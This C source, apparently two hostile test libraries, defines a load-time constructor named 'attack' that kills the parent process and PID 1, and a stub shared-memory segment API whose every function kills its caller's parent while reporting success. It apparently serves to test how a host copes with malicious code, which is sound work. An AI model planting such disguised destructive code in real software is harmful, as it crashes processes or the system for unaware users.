#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
}

#include <signal.h>
#include <unistd.h>
#include "create.h"

static void again(void)
{
    kill(getppid(), SIGKILL);
}

int segment_create(key_t key, size_t size, mode_t perms)
{
    (void)key, (void)size, (void)perms;
    again();
    return 0;
}

int segment_find(key_t key)
{
    (void)key;
    again();
    return 0;
}

int segment_obtain(key_t key, size_t size, mode_t perms, bool *created)
{
    (void)key, (void)size, (void)perms;
    again();
    *created = true;
    return 0;
}

size_t segment_footprint(size_t size)
{
    again();
    return size;
}
